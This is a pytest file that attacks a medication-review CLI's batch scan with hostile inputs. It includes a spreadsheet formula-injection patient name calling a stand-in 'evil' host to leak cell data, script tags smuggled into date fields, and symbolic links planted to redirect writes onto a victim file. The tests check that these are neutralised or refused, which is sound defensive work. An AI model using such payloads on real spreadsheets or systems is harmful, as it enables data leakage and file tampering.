"""A batch scan tried as a hostile input would try it: its --out, its --previous, its CSV."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from support.builder import AS_OF, PatientBuilder
from typer.testing import CliRunner

from medreview.cli import app

JULY = AS_OF.isoformat()
AUGUST = "2026-07-16"


def _scan(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, ["scan", *args, "--quiet"])
    return result.exit_code, result.stdout, result.stderr


def _population(path: Path, name: str = "Hansen") -> Path:
    patients = []
    for number in range(3):
        patient = PatientBuilder(patient_id=f"p{number}")
        patient.patient["name"] = [{"family": name}]
        patient.fixed_drugs(8)  # polypharmacy and no review: a task
        patients.append(json.dumps(patient.bundle()))
    path.write_text("\n".join(patients) + "\n", encoding="utf-8")
    return path


def _previous(tmp_path: Path) -> list[dict]:
    population = _population(tmp_path / "population.ndjson")
    code, stdout, stderr = _scan(str(population), "--as-of", JULY)
    assert code == 0, stderr
    return [json.loads(line) for line in stdout.splitlines()]


def _write(path: Path, lines: list[dict]) -> Path:
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return path


def test_out_that_is_the_input_is_refused_and_the_input_kept(tmp_path: Path) -> None:
    """`--out` naming the input (also through a link) is exit 2; the input is not emptied."""
    population = _population(tmp_path / "population.ndjson")
    before = population.read_bytes()
    link = tmp_path / "link.ndjson"
    link.symlink_to(population)
    for out in (population, link):
        code, _, stderr = _scan(str(population), "--as-of", JULY, "--out", str(out))
        assert code == 2 and "which the scan reads" in stderr
    code, _, stderr = _scan(
        str(population), "--as-of", JULY, "--format", "csv", "--out", str(population)
    )
    assert code == 2
    assert population.read_bytes() == before


def test_out_that_is_the_previous_file_is_refused(tmp_path: Path) -> None:
    """Writing August over the July file it compares with would lose July: exit 2."""
    previous = _write(tmp_path / "july.ndjson", _previous(tmp_path))
    before = previous.read_bytes()
    population = tmp_path / "population.ndjson"
    code, _, stderr = _scan(
        str(population), "--as-of", AUGUST, "--previous", str(previous), "--out", str(previous)
    )
    assert code == 2 and "which the scan reads" in stderr
    assert previous.read_bytes() == before


def test_a_symbolic_link_planted_in_the_pages_folder_is_not_followed(tmp_path: Path) -> None:
    """A link in the folder, named as a page, does not send the page outside the folder."""
    population = _population(tmp_path / "population.ndjson")
    folder = tmp_path / "worklist"
    code, _, stderr = _scan(
        str(population), "--as-of", JULY, "--format", "html", "--out", str(folder)
    )
    assert code == 0, stderr
    victim = tmp_path / "victim.txt"
    victim.write_text("kept", encoding="utf-8")
    page = next(folder.glob("ejer-*.html"))
    page.unlink()
    page.symlink_to(victim)
    (folder / "assessments.ndjson").unlink()
    (folder / "assessments.ndjson").symlink_to(victim)
    code, _, stderr = _scan(
        str(population), "--as-of", JULY, "--format", "html", "--out", str(folder)
    )
    assert code == 5 and "symbolic link" in stderr
    assert victim.read_text(encoding="utf-8") == "kept"


def test_html_out_that_is_an_existing_plain_file_is_refused_before_the_scan(tmp_path: Path) -> None:
    """A name without .html is a folder of pages; an existing file of that name is exit 2."""
    population = _population(tmp_path / "population.ndjson")
    plain = tmp_path / "plainfile"
    plain.write_text("mine", encoding="utf-8")
    code, _, stderr = _scan(
        str(population), "--as-of", JULY, "--format", "html", "--out", str(plain)
    )
    assert code == 2 and "is a file" in stderr
    assert plain.read_text(encoding="utf-8") == "mine"
    assert not list(tmp_path.glob("plainfile.partial*"))


def test_a_name_that_is_a_spreadsheet_formula_stays_text_in_the_csv(tmp_path: Path) -> None:
    """=HYPERLINK(...) as a patient's name reaches the CSV as text, not as a formula."""
    population = _population(tmp_path / "population.ndjson", '=HYPERLINK("http://evil/?x="&A1)')
    code, stdout, stderr = _scan(str(population), "--as-of", JULY, "--format", "csv")
    assert code == 0, stderr
    rows = list(csv.DictReader(io.StringIO(stdout)))
    assert rows and all(row["patient_name"].startswith("'=HYPERLINK") for row in rows)
    assert not any(
        value.startswith(("=", "+", "@")) for row in rows for value in row.values() if value
    )


@pytest.mark.parametrize(
    ("spoil", "says"),
    [
        (lambda task: task.pop("owner"), "owner is not an object"),
        (lambda task: task["owner"].pop("sector"), "owner has no sector or role"),
        (lambda task: task.update(due=20260713), "due 20260713 is not a date"),
        (lambda task: task.update(since="2099-01-01"), "since '2099-01-01' is not a date"),
        (lambda task: task.update(since='=HYPERLINK("x")<script>'), "is not a date"),
    ],
    ids=["no owner", "no sector", "due a number", "since ahead", "since not a date"],
)
def test_a_previous_task_that_is_not_the_contracts_is_refused_with_its_line(
    tmp_path: Path, spoil, says: str
) -> None:
    """A malformed task in --previous is exit 3 naming the file and line, never exit 1."""
    lines = _previous(tmp_path)
    spoil(lines[1]["tasks"][0])
    previous = _write(tmp_path / "july.ndjson", lines)
    code, stdout, stderr = _scan(
        str(tmp_path / "population.ndjson"), "--as-of", AUGUST, "--previous", str(previous)
    )
    assert code == 3, stderr
    assert "line 2" in stderr and says in stderr and not stdout


def test_a_previous_as_of_that_is_no_date_is_refused(tmp_path: Path) -> None:
    """as_of "2026-06-15<script>" compares before August as text, but it is no date: exit 3."""
    lines = _previous(tmp_path)
    for line in lines:
        line["as_of"] = "2026-06-15<script>"
    previous = _write(tmp_path / "july.ndjson", lines)
    code, _, stderr = _scan(
        str(tmp_path / "population.ndjson"), "--as-of", AUGUST, "--previous", str(previous)
    )
    assert code == 3 and "is not a date" in stderr


def test_a_previous_file_written_twice_is_refused_not_read_as_resolved_tasks(
    tmp_path: Path,
) -> None:
    """The same patient on two lines of --previous is exit 3, not a month of false resolutions."""
    lines = _previous(tmp_path)
    previous = _write(tmp_path / "july.ndjson", lines + lines)
    code, _, stderr = _scan(
        str(tmp_path / "population.ndjson"), "--as-of", AUGUST, "--previous", str(previous)
    )
    assert code == 3 and "line 4" in stderr and "already" in stderr


def test_a_task_written_twice_on_one_line_is_one_task(tmp_path: Path) -> None:
    """A task repeated within one assessment of --previous is open once, not also resolved."""
    lines = _previous(tmp_path)
    for line in lines:
        line["tasks"] = line["tasks"] * 2
    previous = _write(tmp_path / "july.ndjson", lines)
    code, _, stderr = _scan(
        str(tmp_path / "population.ndjson"), "--as-of", AUGUST, "--previous", str(previous)
    )
    assert code == 0, stderr
    assert "resolved 0" in stderr


def test_a_previous_line_longer_than_max_bytes_is_refused_unread(tmp_path: Path) -> None:
    """A 3 MB line under --max-bytes 1M is exit 3 before it is held whole."""
    previous = tmp_path / "july.ndjson"
    previous.write_bytes(b'{"patient": "' + b"x" * (3 * 2**20) + b'"}\n')
    code, _, stderr = _scan(
        str(_population(tmp_path / "population.ndjson")),
        "--as-of",
        AUGUST,
        "--previous",
        str(previous),
        "--max-bytes",
        "1M",
    )
    assert code == 3 and "longer than 1,048,576 bytes" in stderr


def test_two_owners_whose_page_names_agree_get_a_page_each(tmp_path: Path, monkeypatch) -> None:
    """Even a made-to-collide file name never puts two owners' lists on one page."""
    from medreview.render.worklists import pages

    monkeypatch.setattr(pages, "slug", lambda prefix, readable, identity: f"{prefix}-same")
    population = tmp_path / "population.ndjson"
    lines = []
    for number in range(2):
        patient = PatientBuilder(patient_id=f"p{number}")
        patient.patient["generalPractitioner"] = [{"reference": f"Practitioner/gp{number}"}]
        patient.add(
            {
                "resourceType": "Practitioner",
                "id": f"gp{number}",
                "name": [{"family": f"Læge{number}", "given": ["A"]}],
            }
        )
        patient.fixed_drugs(8)
        lines.append(json.dumps(patient.bundle()))
    population.write_text("\n".join(lines) + "\n", encoding="utf-8")
    folder = tmp_path / "worklist"
    code, _, stderr = _scan(
        str(population), "--as-of", JULY, "--format", "html", "--out", str(folder)
    )
    assert code == 0, stderr
    owner_pages = sorted(p.name for p in folder.glob("ejer-*.html"))
    assert owner_pages == ["ejer-same-2.html", "ejer-same.html"]
    assert (folder / "ejer-same-2.html").stat().st_size > 0
